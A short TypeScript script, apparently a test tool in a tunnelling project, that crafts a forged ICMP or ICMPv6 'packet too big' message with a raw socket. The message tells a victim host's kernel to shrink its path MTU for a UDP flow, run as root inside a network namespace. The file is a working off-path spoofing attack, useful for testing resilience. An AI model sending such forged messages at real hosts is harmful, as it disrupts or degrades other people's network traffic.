import { isIpv4Bytes, parseIp } from '../../src/addr/ip.js';
import { foreign } from '../../src/ffi.js';
import { StructMemory, system } from '../../src/tunnel/plane/linux-system.js';

/**
 * What an attacker beside the path tells a kernel: that a datagram it sent from port 16696 to that port of another was too big for
 * a router, which passes only so many octets (RFC 792, RFC 1191; RFC 4443 §3.2). Needs root. Run inside a namespace:
 *
 *   node forged-too-big.js VICTIM OTHER OCTETS
 */
const port = 16696;
const raw = 3;
const udp = 17;
const sendto = foreign(
  'int64_t sendto(int fd, uint64_t from, uint64_t count, int flags, uint64_t address, uint32_t length)',
);
const [victim, other] = process.argv.slice(2, 4).map((text) => parseIp(text!)!) as [Uint8Array, Uint8Array];
const octets = Number(process.argv[4]);
const is4 = isIpv4Bytes(victim);

const message = new StructMemory(8 + (is4 ? 20 : 40) + 8);
const { bytes, view } = message;
if (is4) {
  view.setUint16(0, 0x0304);
  view.setUint16(6, octets);
  view.setUint16(8, 0x4500);
  view.setUint16(10, 1500);
  view.setUint16(14, 0x4000);
  view.setUint16(16, (64 << 8) | udp);
  bytes.set(victim.subarray(12), 20);
  bytes.set(other.subarray(12), 24);
} else {
  view.setUint8(0, 2);
  view.setUint32(4, octets);
  view.setUint8(8, 0x60);
  view.setUint16(12, 1460);
  view.setUint16(14, (udp << 8) | 64);
  bytes.set(victim, 16);
  bytes.set(other, 32);
}
const quoted = bytes.length - 8;
view.setUint16(quoted, port);
view.setUint16(quoted + 2, port);
view.setUint16(quoted + 4, is4 ? 1480 : 1460);
if (is4) {
  // Of ICMPv6 the kernel makes the sum.
  let sum = 0;
  for (let at = 0; at < bytes.length; at += 2) sum += view.getUint16(at);
  view.setUint16(2, ~((sum & 0xffff) + (sum >>> 16)));
}

const address = new StructMemory(28);
address.view.setUint16(0, is4 ? 2 : 10, true);
address.bytes.set(is4 ? victim.subarray(12) : victim, is4 ? 4 : 8);
const fd = system.socket(is4 ? 2 : 10, raw, is4 ? 1 : 58);
const sent = sendto(fd, message.address, bytes.length, 0, address.address, is4 ? 16 : 28);
if (Number(sent) !== bytes.length) throw new Error('the message was not sent');
